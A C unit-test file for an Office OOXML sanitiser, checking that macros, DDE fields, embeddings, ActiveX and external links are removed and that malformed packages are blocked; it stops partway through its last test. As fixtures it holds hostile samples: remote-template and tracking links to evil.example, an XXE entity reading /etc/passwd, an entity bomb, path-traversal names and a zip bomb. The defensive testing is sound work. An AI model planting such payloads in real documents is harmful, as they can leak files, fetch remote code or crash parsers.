/* check_ooxml.c - OOXML: rebuilt packages without macros, OLE objects,
 * external relationships or field codes; text mode; zip and XML abuse. */
#include <archive.h>
#include <archive_entry.h>
#include <check.h>
#include <dirent.h>
#include <locale.h>
#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include "internal.h"
#include "testutil.h"
#include "testutil_zip.h"

/* referenced so that the filters are linked into this program */
extern const mg_filter mg_filter_ooxml, mg_filter_ole2, mg_filter_image;
extern const mg_filter mg_filter_odf, mg_filter_rtf, mg_filter_text, mg_filter_xml;

#define CT_DOCX "application/vnd.openxmlformats-officedocument.wordprocessingml.document"

/* ---- helpers ---- */

typedef tu_zip_entry entry;

/* True when some member's name or content contains needle (no case). */
static int zip_mentions(const unsigned char *zip, size_t len, const char *needle)
{
	struct archive *a = archive_read_new();
	struct archive_entry *e;
	int found = 0;

	archive_read_support_format_zip(a);
	ck_assert_int_eq(archive_read_open_memory(a, zip, len), ARCHIVE_OK);
	while (!found && archive_read_next_header(a, &e) == ARCHIVE_OK) {
		size_t n = (size_t)archive_entry_size(e);
		char *buf = calloc(1, n + 1);

		ck_assert_int_eq(archive_read_data(a, buf, n), (la_ssize_t)n);
		found = strcasestr(archive_entry_pathname(e), needle) || strcasestr(buf, needle);
		free(buf);
	}
	archive_read_free(a);
	return found;
}

static char *text_of(const void *d, size_t len, const char *name)
{
	mg_result res;
	char *t;

	ck_assert_int_eq(tu_sanitize(d, len, name, MG_MODE_TEXT, &res), MG_OK);
	ck_assert_str_eq(res.out_ext, "txt");
	t = strndup((const char *)res.out, res.out_len);
	mg_result_free(&res);
	return t;
}

static char *corpus_text(const char *rel)
{
	char path[4096];
	size_t len;
	unsigned char *d;
	char *t;

	snprintf(path, sizeof(path), "%s/%s", CORPUS_DIR, rel);
	d = tu_read(path, &len);
	t = text_of(d, len, strrchr(rel, '/') + 1);
	free(d);
	return t;
}

static void cdr_corpus(const char *rel, mg_result *res)
{
	ck_assert_msg(tu_sanitize_corpus(rel, MG_MODE_CDR, res) == MG_OK, "%s: %s", rel,
	              res->reason);
	ck_assert_ptr_nonnull(res->out);
}

/* ---- the minimal package the generated tests build on ---- */

static const char types_xml[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
	"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
	"<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
	"<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
	"<Default Extension=\"gif\" ContentType=\"image/gif\"/>"
	"<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"
	"<Override PartName=\"/word/settings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml\"/>"
	"<Override PartName=\"/customUI/customUI.xml\" ContentType=\"application/xml\"/>"
	"<Override PartName=\"/word/activeX/activeX1.xml\" ContentType=\"application/vnd.ms-office.activeX+xml\"/>"
	"</Types>";

static const char root_rels[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
	"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
	"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>"
	"<Relationship Id=\"rId2\" Type=\"http://schemas.microsoft.com/office/2006/relationships/ui/extensibility\" Target=\"customUI/customUI.xml\"/>"
	"</Relationships>";

static const char doc_rels[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
	"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
	"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings\" Target=\"settings.xml\"/>"
	"<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"http://evil.example/x\" TargetMode=\"External\"/>"
	"<Relationship Id=\"rId3\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" Target=\"http://evil.example/track.png\" TargetMode=\"External\"/>"
	"<Relationship Id=\"rId4\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/control\" Target=\"activeX/activeX1.xml\"/>"
	"<Relationship Id=\"rId5\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" Target=\"media/image1.gif\"/>"
	"</Relationships>";

static const char settings_rels[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
	"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
	"<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>"
	"</Relationships>";

static const char settings_xml[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
	"<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" "
	"xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
	"<w:attachedTemplate r:id=\"rId9\"/><w:zoom w:percent=\"100\"/></w:settings>";

#define W_NS "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" " \
	"xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" " \
	"xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\""

static const char document_xml[] =
	"<?xml version=\"1.0\" encoding=\"UTF-8\"?><!-- a comment --><?mso-application progid=\"Word.Document\"?>"
	"<w:document " W_NS "><w:body>"
	"<w:p><w:r><w:t>Kept paragraph.</w:t></w:r></w:p>"
	"<w:p><w:hyperlink r:id=\"rId2\"><w:r><w:t>link text</w:t></w:r></w:hyperlink></w:p>"
	"<w:p><w:fldSimple w:instr=\" INCLUDEPICTURE &quot;http://evil.example/p.png&quot; \"><w:r><w:t>picture result</w:t></w:r></w:fldSimple></w:p>"
	"<w:p><w:fldSimple w:instr=\" PAGE \"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
	"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>INCLUDETEXT \"\\\\\\\\srv\\\\x.docx\"</w:instrText></w:r>"
	"<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>included result</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
	"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> </w:instrText></w:r>"
	"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
	"<w:r><w:instrText>AUTO calc</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>nested result</w:t></w:r>"
	"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
	"<w:p><w:r><w:object><w:control r:id=\"rId4\" w:name=\"CommandButton1\"/></w:object></w:r></w:p>"
	"<w:p><w:r><w:drawing><a:blip r:link=\"rId3\"/><a:blip r:embed=\"rId5\"/></w:drawing></w:r></w:p>"
	"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"><w:ffData><w:entryMacro w:val=\"Evil\"/></w:ffData></w:fldChar></w:r>"
	"<w:r><w:instrText>FORMTEXT</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
	"</w:body></w:document>";

static const char custom_ui[] =
	"<customUI xmlns=\"http://schemas.microsoft.com/office/2006/01/customui\" onLoad=\"Evil\"/>";
static const char activex[] =
	"<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" ax:classid=\"{x}\"/>";
/* a 1x1 GIF: the image filter turns it into a PNG */
static const unsigned char gif1[] = {
	'G', 'I', 'F', '8', '9', 'a', 1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff,
	0x21, 0xf9, 4, 1, 0, 0, 0, 0, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3b,
};

static unsigned char *evil_docx(size_t *len, const char *types, const char *extra_name)
{
	entry e[] = {
		{ "[Content_Types].xml", types, 0 },
		{ "_rels/.rels", root_rels, 0 },
		{ "word/document.xml", document_xml, 0 },
		{ "word/_rels/document.xml.rels", doc_rels, 0 },
		{ "word/settings.xml", settings_xml, 0 },
		{ "word/_rels/settings.xml.rels", settings_rels, 0 },
		{ "customUI/customUI.xml", custom_ui, 0 },
		{ "word/activeX/activeX1.xml", activex, 0 },
		{ "word/media/image1.gif", (const char *)gif1, sizeof(gif1) },
		{ extra_name ? extra_name : "docProps/extra.txt", "extra", 0 },
	};

	return tu_make_zip(e, sizeof(e) / sizeof(e[0]), len);
}

/* ---- tests ---- */

START_TEST(filter_is_registered)
{
	ck_assert_ptr_eq(mg_filter_for(MG_FAM_OOXML), &mg_filter_ooxml);
	ck_assert_ptr_eq(mg_filter_for(MG_FAM_OLE2), &mg_filter_ole2);
	ck_assert_ptr_eq(mg_filter_for(MG_FAM_IMAGE), &mg_filter_image);
	ck_assert(mg_filter_ooxml.actions & (1u << MG_ACT_CDR));
	ck_assert(mg_filter_ooxml.actions & (1u << MG_ACT_TEXT));
}
END_TEST

START_TEST(docm_with_vba_becomes_docx)
{
	mg_result res;
	char *types, *names, *rels, *before, *after;

	cdr_corpus("office/oleform-PR314.docm", &res);
	ck_assert_str_eq(res.out_ext, "docx");
	ck_assert_str_eq(res.out_type, CT_DOCX);
	names = tu_zip_names(res.out, res.out_len);
	ck_assert_msg(!strcasestr(names, "vbaProject") && !strcasestr(names, "vbaData"), "%s", names);
	ck_assert_ptr_nonnull(strstr(names, "word/document.xml"));
	types = tu_zip_get(res.out, res.out_len, "[Content_Types].xml", NULL);
	ck_assert_ptr_nonnull(types);
	ck_assert_ptr_null(strcasestr(types, "macroEnabled"));
	ck_assert_ptr_null(strcasestr(types, "vbaProject"));
	ck_assert_ptr_nonnull(strstr(types, "wordprocessingml.document.main+xml"));
	rels = tu_zip_get(res.out, res.out_len, "word/_rels/document.xml.rels", NULL);
	ck_assert_ptr_null(strcasestr(rels, "vbaProject"));
	ck_assert(tu_report_has(&res, "removed", "word/vbaProject.bin"));
	ck_assert(tu_report_has(&res, "removed", "word/vbaData.xml"));
	/* the same body text, before and after */
	before = corpus_text("office/oleform-PR314.docm");
	after = text_of(res.out, res.out_len, "out.docx");
	ck_assert_str_eq(before, after);
	ck_assert_ptr_nonnull(strstr(after, "This is a test document, with Forms in a macro"));
	free(before);
	free(after);
	free(types);
	free(names);
	free(rels);
	mg_result_free(&res);
}
END_TEST

START_TEST(dde_fields_removed_results_kept)
{
	static const char *const files[] = { "office/dde-test.docx", "office/dde-test.docm" };

	for (size_t i = 0; i < 2; i++) {
		mg_result res;
		char *doc;

		cdr_corpus(files[i], &res);
		ck_assert_str_eq(res.out_ext, "docx");
		doc = tu_zip_get(res.out, res.out_len, "word/document.xml", NULL);
		ck_assert_ptr_nonnull(doc);
		ck_assert_msg(!strcasestr(doc, "DDEAUTO"), "%s keeps DDEAUTO", files[i]);
		ck_assert_ptr_null(strstr(doc, "instrText"));
		ck_assert_ptr_null(strstr(doc, "fldSimple"));
		ck_assert_ptr_null(strstr(doc, "MACROBUTTON"));
		ck_assert_ptr_nonnull(strstr(doc, "!Unerwartetes Ende des Ausdrucks"));
		ck_assert_ptr_nonnull(strstr(doc, "Hope this works"));
		ck_assert(tu_report_has(&res, "removed", "DDEAUTO"));
		ck_assert(tu_report_has(&res, "removed", "DDE"));
		free(doc);
		mg_result_free(&res);
	}
}
END_TEST

/* No relationship may point outside the package after sanitising. */
static void assert_no_external(const mg_result *res)
{
	char *names = tu_zip_names(res->out, res->out_len), *line, *save = NULL;

	for (line = strtok_r(names, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		char *rels;

		if (!strstr(line, ".rels"))
			continue;
		rels = tu_zip_get(res->out, res->out_len, line, NULL);
		ck_assert_msg(!strstr(rels, "TargetMode"), "%s: %s", line, rels);
		/* every target is a part of the package, by its absolute name */
		for (const char *t = strstr(rels, "Target=\""); t; t = strstr(t + 1, "Target=\""))
			ck_assert_msg(t[8] == '/' && t[9] != '/', "%s: %s", line, t);
		free(rels);
	}
	free(names);
}

START_TEST(external_relationships_removed)
{
	static const char *const files[] = {
		"office/sample_with_external_link_to_doc.docx",
		"office/sample_with_external_link_to_doc.pptx",
		"office/sample_with_external_link_to_doc.xlsx",
		"office/dde-test.xlsx",
	};

	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		mg_result res;

		cdr_corpus(files[i], &res);
		assert_no_external(&res);
		ck_assert(!zip_mentions(res.out, res.out_len, "externalLink"));
		ck_assert(!zip_mentions(res.out, res.out_len, "oleObject"));
		ck_assert(!zip_mentions(res.out, res.out_len, "<p:oleObj"));
		ck_assert(!zip_mentions(res.out, res.out_len, "externalReference"));
		mg_result_free(&res);
	}
}
END_TEST

START_TEST(external_link_reported)
{
	mg_result res;

	cdr_corpus("office/sample_with_external_link_to_doc.docx", &res);
	ck_assert(tu_report_has(&res, "removed", "https://raw.githubusercontent.com/"));
	ck_assert(tu_report_has(&res, "removed", "external oleObject relationship"));
	mg_result_free(&res);
	cdr_corpus("office/dde-test.xlsx", &res);
	ck_assert(tu_report_has(&res, "removed", "xl/externalLinks/externalLink1.xml"));
	mg_result_free(&res);
}
END_TEST

START_TEST(dde_formula_removed_value_kept)
{
	mg_result res;
	char *sheet;

	cdr_corpus("office/dde-test.xlsx", &res);
	sheet = tu_zip_get(res.out, res.out_len, "xl/worksheets/sheet1.xml", NULL);
	ck_assert_ptr_nonnull(sheet);
	ck_assert_ptr_null(strstr(sheet, "[1]!"));
	ck_assert_ptr_nonnull(strstr(sheet, "<c r=\"B4\" t=\"e\"><v>#REF!</v></c>"));
	free(sheet);
	mg_result_free(&res);
}
END_TEST

START_TEST(embeddings_removed_text_kept)
{
	static const struct {
		const char *file, *part, *text;
	} cases[] = {
		{ "office/embedded-simple-2007.docx", "word/document.xml",
		  "This document contains an embedded file:" },
		{ "office/embedded-simple-2007.pptx", "ppt/slides/slide1.xml",
		  "This slide contains an embedded object" },
		{ "office/embedded-simple-2007.xlsx", "xl/sharedStrings.xml",
		  "This spreadsheet contains an embedded object" },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		mg_result res;
		char *names, *part;

		cdr_corpus(cases[i].file, &res);
		names = tu_zip_names(res.out, res.out_len);
		ck_assert_msg(!strstr(names, "embeddings/"), "%s: %s", cases[i].file, names);
		ck_assert_msg(!strcasestr(names, ".bin"), "%s: %s", cases[i].file, names);
		ck_assert(!zip_mentions(res.out, res.out_len, "oleObject"));
		ck_assert(!zip_mentions(res.out, res.out_len, "progId"));
		part = tu_zip_get(res.out, res.out_len, cases[i].part, NULL);
		ck_assert_ptr_nonnull(part);
		ck_assert_msg(strstr(part, cases[i].text) != NULL, "%s lost its text", cases[i].file);
		ck_assert(tu_report_has(&res, "removed", "embeddings/oleObject1.bin"));
		free(part);
		free(names);
		mg_result_free(&res);
	}
}
END_TEST

START_TEST(excel4_macro_sheet_removed)
{
	mg_result res;
	char *names, *wb, *types;

	cdr_corpus("office/excel4_sample_macro.xlsm", &res);
	ck_assert_str_eq(res.out_ext, "xlsx");
	names = tu_zip_names(res.out, res.out_len);
	ck_assert_ptr_null(strstr(names, "macrosheets/"));
	wb = tu_zip_get(res.out, res.out_len, "xl/workbook.xml", NULL);
	ck_assert_ptr_null(strstr(wb, "Macro1"));
	ck_assert_ptr_null(strcasestr(wb, "Auto_Open"));
	ck_assert_ptr_nonnull(strstr(wb, "name=\"Sheet1\""));
	types = tu_zip_get(res.out, res.out_len, "[Content_Types].xml", NULL);
	ck_assert_ptr_null(strcasestr(types, "macro"));
	ck_assert(tu_report_has(&res, "removed", "Excel 4 macro sheet"));
	free(names);
	free(wb);
	free(types);
	mg_result_free(&res);
}
END_TEST

START_TEST(clean_docx_keeps_text)
{
	mg_result res;
	char *before, *after;

	cdr_corpus("office/harmless-clean.docx", &res);
	ck_assert_str_eq(res.out_ext, "docx");
	before = corpus_text("office/harmless-clean.docx");
	after = text_of(res.out, res.out_len, "clean.docx");
	ck_assert_str_eq(before, after);
	ck_assert_ptr_nonnull(strstr(after, "This is a harmless test document."));
	ck_assert_ptr_nonnull(strstr(after, "\xc3\xbcnic\xc3\xb6" "de-\xc3\x9ftring\xc3\x9f"));
	free(before);
	free(after);
	mg_result_free(&res);
}
END_TEST

START_TEST(text_mode_per_application)
{
	char *t = corpus_text("office/dde-test.xlsx");

	ck_assert_ptr_nonnull(strstr(t, "[Tabelle1]\nTest\nLong live open source!\nDDE-Link:\t#REF!\n"));
	free(t);
	t = corpus_text("office/embedded-simple-2007.pptx");
	ck_assert_ptr_nonnull(strstr(t, "This slide contains an embedded object"));
	ck_assert_ptr_nonnull(strstr(t, "Embedded Objects\n"));
	free(t);
	t = corpus_text("office/dde-test.docx");
	ck_assert_ptr_nonnull(strstr(t, "Hope this works.\n"));
	ck_assert_ptr_null(strcasestr(t, "DDEAUTO"));
	free(t);
}
END_TEST

START_TEST(xlsb_is_blocked)
{
	mg_result res;

	ck_assert_int_eq(tu_sanitize_corpus("office/excel4_sample_macro.xlsb", MG_MODE_DEFAULT, &res),
	                 MG_E_TYPE_BLOCKED);
	ck_assert_ptr_null(res.out);
	ck_assert_ptr_nonnull(strstr(res.reason, "xlsb"));
	mg_result_free(&res);
}
END_TEST

START_TEST(encrypted_ooxml_is_encrypted)
{
	static const char *const files[] = { "office/encrypted.docx",
		                             "office/autostart-encrypt-standardpassword.xlsm" };

	for (size_t i = 0; i < 2; i++) {
		mg_result res;

		ck_assert_int_eq(tu_sanitize_corpus(files[i], MG_MODE_DEFAULT, &res), MG_E_ENCRYPTED);
		ck_assert_int_eq(res.verdict, MG_VERDICT_BLOCKED);
		ck_assert_ptr_null(res.out);
		mg_result_free(&res);
	}
}
END_TEST

START_TEST(generated_package_disarmed)
{
	size_t len;
	unsigned char *zip = evil_docx(&len, types_xml, NULL);
	mg_result res;
	char *doc, *names, *types, *rels, *settings;

	ck_assert_msg(tu_sanitize(zip, len, "evil.docm", MG_MODE_DEFAULT, &res) == MG_OK, "%s",
	              res.reason);
	ck_assert_str_eq(res.out_ext, "docx");
	names = tu_zip_names(res.out, res.out_len);
	ck_assert_ptr_null(strstr(names, "customUI"));
	ck_assert_ptr_null(strstr(names, "activeX"));
	ck_assert_ptr_null(strstr(names, "extra.txt"));
	doc = tu_zip_get(res.out, res.out_len, "word/document.xml", NULL);
	ck_assert_ptr_null(strstr(doc, "INCLUDE"));
	ck_assert_ptr_null(strstr(doc, "QUOTE"));
	ck_assert_ptr_null(strstr(doc, "AUTO calc"));
	ck_assert_ptr_null(strstr(doc, "w:object"));
	ck_assert_ptr_null(strstr(doc, "entryMacro"));
	ck_assert_ptr_null(strstr(doc, "r:link"));
	ck_assert_ptr_null(strstr(doc, "<!--"));
	ck_assert_ptr_null(strstr(doc, "mso-application"));
	ck_assert_ptr_null(strstr(doc, "rId2")); /* the hyperlink keeps its text only */
	ck_assert_ptr_nonnull(strstr(doc, "link text"));
	ck_assert_ptr_nonnull(strstr(doc, "picture result"));
	ck_assert_ptr_nonnull(strstr(doc, "included result"));
	ck_assert_ptr_nonnull(strstr(doc, "nested result"));
	ck_assert_ptr_nonnull(strstr(doc, "Kept paragraph."));
	ck_assert_ptr_nonnull(strstr(doc, "w:instr=\" PAGE \"")); /* a display field stays */
	settings = tu_zip_get(res.out, res.out_len, "word/settings.xml", NULL);
	ck_assert_ptr_null(strstr(settings, "attachedTemplate"));
	ck_assert_ptr_nonnull(strstr(settings, "w:zoom"));
	types = tu_zip_get(res.out, res.out_len, "[Content_Types].xml", NULL);
	ck_assert_ptr_null(strcasestr(types, "macroEnabled"));
	ck_assert_ptr_null(strcasestr(types, "activeX"));
	assert_no_external(&res);
	ck_assert(tu_report_has(&res, "removed", "http://evil.example/t.dotm"));
	ck_assert(tu_report_has(&res, "removed", "INCLUDEPICTURE"));
	ck_assert(tu_report_has(&res, "removed", "INCLUDETEXT"));
	ck_assert(tu_report_has(&res, "removed", "customUI/customUI.xml"));
	/* the GIF went through the image filter and came back as a PNG */
	rels = tu_zip_get(res.out, res.out_len, "word/_rels/document.xml.rels", NULL);
	ck_assert_ptr_nonnull(strstr(rels, "Target=\"/word/media/image1.png\""));
	ck_assert_ptr_nonnull(strstr(types, "/word/media/image1.png\" ContentType=\"image/png\""));
	ck_assert_ptr_nonnull(strstr(names, "word/media/image1.png\n"));
	ck_assert_ptr_null(strstr(names, "image1.gif"));
	ck_assert_ptr_nonnull(strstr(doc, "r:embed=\"rId5\""));
	free(rels);
	free(settings);
	free(types);
	free(doc);
	free(names);
	free(zip);
	mg_result_free(&res);
}
END_TEST

START_TEST(traversal_and_absolute_names_blocked)
{
	static const char *const bad[] = { "../evil.xml", "word/../../evil.xml", "/etc/evil",
		                           "word\\..\\evil.xml", "C:/evil.xml" };

	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		size_t len;
		unsigned char *zip = evil_docx(&len, types_xml, bad[i]);
		mg_result res;

		ck_assert_int_eq(tu_sanitize(zip, len, "t.docx", MG_MODE_DEFAULT, &res), MG_E_MALFORMED);
		ck_assert_ptr_null(res.out);
		ck_assert_msg(strstr(res.reason, "name") != NULL, "%s", res.reason);
		mg_result_free(&res);
		free(zip);
	}
}
END_TEST

START_TEST(duplicate_names_blocked)
{
	size_t len;
	unsigned char *zip = evil_docx(&len, types_xml, "word/document.xml");
	mg_result res;

	ck_assert_int_eq(tu_sanitize(zip, len, "t.docx", MG_MODE_DEFAULT, &res), MG_E_MALFORMED);
	ck_assert_ptr_nonnull(strstr(res.reason, "twice"));
	mg_result_free(&res);
	free(zip);
}
END_TEST

START_TEST(doctype_and_entity_bomb_blocked)
{
	static const char bomb[] =
		"<?xml version=\"1.0\"?><!DOCTYPE Types [<!ENTITY a \"aaaaaaaaaa\">"
		"<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">"
		"<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">]>"
		"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
		"<Default Extension=\"xml\" ContentType=\"&e;\"/></Types>";
	static const char xxe[] =
		"<?xml version=\"1.0\"?><!DOCTYPE w:document [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
		"<w:document " W_NS "><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>";
	size_t len;
	unsigned char *zip = evil_docx(&len, bomb, NULL);
	mg_result res;

	ck_assert_int_eq(tu_sanitize(zip, len, "t.docx", MG_MODE_DEFAULT, &res), MG_E_MALFORMED);
	ck_assert_ptr_nonnull(strstr(res.reason, "DOCTYPE"));
	mg_result_free(&res);
	free(zip);
	{
		entry e[] = {
			{ "[Content_Types].xml", types_xml, 0 },
			{ "_rels/.rels", root_rels, 0 },
			{ "word/document.xml", xxe, 0 },
		};

		zip = tu_make_zip(e, 3, &len);
		ck_assert_int_eq(tu_sanitize(zip, len, "t.docx", MG_MODE_DEFAULT, &res), MG_E_MALFORMED);
		ck_assert_ptr_nonnull(strstr(res.reason, "DOCTYPE"));
		ck_assert_ptr_null(res.out);
		mg_result_free(&res);
		ck_assert_int_eq(tu_sanitize(zip, len, "t.docx", MG_MODE_TEXT, &res), MG_E_MALFORMED);
		mg_result_free(&res);
		free(zip);
	}
}
END_TEST

START_TEST(zip_bomb_and_member_count_limited)
{
	size_t big = 8u << 20, len;
	char *zeros = calloc(1, big);
	entry e[] = {
		{ "[Content_Types].xml", types_xml, 0 },
		{ "_rels/.rels", root_rels, 0 },
		{ "word/document.xml", zeros, big },
	};
	unsigned char *zip;
	mg_result res;
	mg_policy *p = mg_policy_new();
	char *err = NULL;

	memset(zeros, ' ', big);
	zip = tu_make_zip(e, 3, &len);
	ck_assert_uint_lt(len, big / 100);
	ck_assert_int_eq(tu_sanitize(zip, len, "bomb.docx", MG_MODE_DEFAULT, &res), MG_E_LIMIT_RATIO);
	ck_assert_ptr_null(res.out);
	mg_result_free(&res);
	free(zip);
	free(zeros);

	zip = evil_docx(&len, types_xml, NULL);
	ck_assert_int_eq(mg_policy_set(p, "max_parts", "5", &err), 0);
	ck_assert_int_eq(tu_sanitize_policy(p, zip, len, "t.docx", MG_MODE_DEFAULT, &res),
	                 MG_E_LIMIT_COUNT);
	mg_result_free(&res);
	mg_policy_free(p);
	free(zip);
}
END_TEST

START_TEST(broken_packages_blocked)
{
	static const char *const garbage = "PK\003\004 this is not a zip at all";
	entry no_main[] = {
		{ "[Content_Types].xml", types_xml, 0 },
		{ "_rels/.rels", "<Relationships xmlns=\"x\"/>", 0 },
	};
	size_t len;
	unsigned char *zip;
	mg_result res;

	ck_assert_int_ne(tu_sanitize(garbage, strlen(garbage), "x.docx", MG_MODE_DEFAULT, &res),
	                 MG_OK);
	ck_assert_ptr_null(res.out);
	mg_result_free(&res);
	zip = tu_make_zip(no_main, 2, &len);
	ck_assert_int_eq(tu_sanitize(zip, len, "x.docx", MG_MODE_DEFAULT, &res), MG_E_MALFORMED);
	mg_result_free(&res);
	free(zip);
}
END_TEST

/* Every OOXML file of the corpus lands in its expected verdict. */
START_TEST(corpus_verdicts)
{
	static const struct {
		const char *file;
		mg_status st;
		const char *ext;
	} cases[] = {
		{ "office/dde-test.docm", MG_OK, "docx" },
		{ "office/dde-test.docx", MG_OK, "docx" },
		{ "office/dde-test.xlsx", MG_OK, "xlsx" },
		{ "office/embedded-simple-2007.docx", MG_OK, "docx" },
		{ "office/embedded-simple-2007.pptx", MG_OK, "pptx" },
		{ "office/embedded-simple-2007.xlsx", MG_OK, "xlsx" },
		{ "office/encrypted.docx", MG_E_ENCRYPTED, NULL },
		{ "office/autostart-encrypt-standardpassword.xlsm", MG_E_ENCRYPTED, NULL },
		{ "office/excel4_sample_macro.xlsb", MG_E_TYPE_BLOCKED, NULL },
		{ "office/excel4_sample_macro.xlsm", MG_OK, "xlsx" },
		{ "office/harmless-clean.docm", MG_OK, "docx" },
		{ "office/harmless-clean.docx", MG_OK, "docx" },
		{ "office/oleform-PR314.docm", MG_OK, "docx" },
		{ "office/sample_with_external_link_to_doc.docx", MG_OK, "docx" },
		{ "office/sample_with_external_link_to_doc.pptx", MG_OK, "pptx" },
		{ "office/sample_with_external_link_to_doc.xlsx", MG_OK, "xlsx" },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		mg_result res;
		mg_status st = tu_sanitize_corpus(cases[i].file, MG_MODE_DEFAULT, &res);

		ck_assert_msg(st == cases[i].st, "%s: %s (%s)", cases[i].file, mg_status_name(st),
		              res.reason);
		if (cases[i].ext) {
			ck_assert_str_eq(res.out_ext, cases[i].ext);
			ck_assert(!zip_mentions(res.out, res.out_len, "vbaProject"));
			ck_assert(!zip_mentions(res.out, res.out_len, "macroEnabled"));
			assert_no_external(&res);
		}
		mg_result_free(&res);
	}
}
END_TEST

/* A part named in Japanese, in the "C" locale the tests run in: read,
 * re-encoded by the image filter and named by a percent-encoded URI. */
START_TEST(japanese_part_names)
{
	static const unsigned char png1[] = {
		0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48,
		0x44, 0x52, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x02, 0x00, 0x00,
		0x00, 0x90, 0x77, 0x53, 0xde, 0x00, 0x00, 0x00, 0x0c, 0x49, 0x44, 0x41, 0x54, 0x78,
		0x9c, 0x63, 0xf8, 0xcf, 0xc0, 0x00, 0x00, 0x03, 0x01, 0x01, 0x00, 0xc9, 0xfe, 0x92,
		0xef, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
	};
	static const char types[] =
		"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
		"<Default Extension=\"png\" ContentType=\"image/png\"/>"
		"<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
	static const char rels[] =
		"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
		"<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" "
		"Target=\"media/%E7%94%BB%E5%83%8F%20a.png\"/></Relationships>";
	static const char doc[] =
		"<w:document " W_NS "><w:body><w:p><w:r><w:t>\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e</w:t>"
		"</w:r></w:p><w:p><w:r><w:drawing><a:blip r:embed=\"rId2\"/></w:drawing></w:r></w:p></w:body></w:document>";
	entry e[] = {
		{ "[Content_Types].xml", types, 0 },
		{ "_rels/.rels", root_rels, 0 },
		{ "word/document.xml", doc, 0 },
		{ "word/_rels/document.xml.rels", rels, 0 },
		{ "word/media/\xe7\x94\xbb\xe5\x83\x8f a.png", (const char *)png1, sizeof(png1) },
	};
	size_t len;
	unsigned char *zip = tu_make_zip(e, 5, &len);
	mg_result res;
	char *out_rels, *out_types, *t;

